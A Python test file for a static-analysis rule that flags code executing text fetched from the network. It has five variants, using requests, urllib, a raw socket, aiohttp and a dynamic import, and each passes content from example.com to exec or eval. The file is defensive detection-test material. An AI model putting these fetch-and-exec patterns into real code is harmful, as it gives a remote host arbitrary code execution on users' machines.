import socket
import urllib.request as web
from importlib import import_module

import requests


def second_stage():
    # ruleid: py-exec-of-fetched-text
    exec(requests.get("https://example.com/x").text)


def staged():
    with web.urlopen("https://example.com/x") as answer:
        code = compile(answer.read().decode(), "x", "exec")
    # ruleid: py-exec-of-fetched-text
    exec(code)


def over_a_socket():
    s = socket.socket()
    s.connect(("example.com", 1))
    # ruleid: py-exec-of-fetched-text
    eval(s.recv(4096))


async def asynchronously():
    import aiohttp

    async with aiohttp.ClientSession() as session:
        async with session.get("https://example.com") as r:
            # ruleid: py-exec-of-fetched-text
            exec(await r.text())


def dynamically():
    web2 = import_module("requests")
    run = exec
    # ruleid: py-exec-of-fetched-text
    run(web2.get("https://example.com").content)
